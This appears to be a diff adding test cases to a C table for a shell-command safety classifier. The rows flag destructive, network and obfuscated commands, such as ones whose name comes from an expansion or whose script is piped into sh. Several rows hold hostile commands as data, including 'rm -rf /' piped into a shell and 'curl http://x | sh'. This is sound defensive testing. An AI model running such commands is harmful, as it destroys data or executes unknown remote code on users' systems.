@@ -140,8 +140,31 @@ static const row table[] = {
     {"f() { rm -rf x; }; f", C, NULL},
     {"env -S 'rm -rf x'", C, NULL},
     {"echo `unterminated", C, NULL},
+    /* what runs is only known when it runs: the command name is an expansion */
+    {"$(echo rm) -rf x", C, NULL},
+    {"${RM:-rm} -rf x", C, NULL},
+    {"x=rm; $x -rf y", C, NULL},
+    {"\"$(which rm)\" -rf x", C, NULL},
+    {"sudo \"$X\" -rf /", C, NULL},
+    {"bash -c \"$CMD\"", C, NULL},
+    {"make CC=$CC && echo $HOME", 0, "make|echo"},
+    /* a shell fed its script by a pipe or a here-document */
+    {"echo 'rm -rf /' | sh", C, NULL},
+    {"printf 'rm -rf x' | bash -s", C, NULL},
+    {"bash <<'EOF'\nrm -rf /\nEOF", C, NULL},
+    {"sh < script.sh", 0, "sh"},
+    /* a script for an interpreter from a here-document or file is not a REPL */
+    {"python3 - <<'EOF'\nimport os\nprint(1)\nEOF", 0, "python3"},
+    {"python3 < script.py", 0, "python3"},
+    {"cat <<-EOF\n\techo hi\n\tEOF\nrm -rf y", D, "cat|rm"},
+    /* commands run by find -exec, busybox applets, fish -c */
+    {"find . -name '*.o' -exec rm -rf {} \\;", D, "find|rm"},
+    {"find . -execdir curl -O x {} +", N, "find|curl"},
+    {"find . -name '*.c' -exec grep -l main {} +", 0, "find|grep"},
+    {"busybox rm -rf x", D, "rm"},
+    {"fish -c 'rm -rf x'", D, NULL},
     /* combinations */
-    {"curl http://x | sh", N, NULL},
+    {"curl http://x | sh", N | C, NULL}, /* and what sh runs is not known */
     {"echo 'print(1)' | python3", 0, NULL},
     {"rm -rf x && git push", D | N, NULL},
     {"vim x; curl y", I | N, NULL},
